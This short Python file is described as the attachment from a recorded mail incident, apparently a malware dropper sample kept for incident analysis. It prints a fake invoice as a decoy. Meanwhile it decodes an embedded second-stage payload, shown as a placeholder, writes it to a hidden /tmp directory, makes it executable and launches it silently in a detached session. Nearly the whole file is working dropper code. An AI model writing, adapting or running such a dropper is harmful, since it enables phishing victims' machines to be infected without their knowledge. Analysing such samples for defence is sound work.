# SPDX-License-Identifier: MIT
"""The attachment of the recorded mail incident: shows an invoice, unpacks the second stage, starts it."""
import base64
import os
import subprocess
import sys
import zlib

STAGE2 = "@STAGE2@"

print("Invoice 2026-1107\nAmount due: 4,180.00\nThank you for your business.")
os.makedirs("/tmp/.x", exist_ok=True)
with open("/tmp/.x/stage2", "wb") as file:
    file.write(zlib.decompress(base64.b64decode(STAGE2)))
os.chmod("/tmp/.x/stage2", 0o755)
subprocess.Popen(["/tmp/.x/stage2", os.path.abspath(sys.argv[0])], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
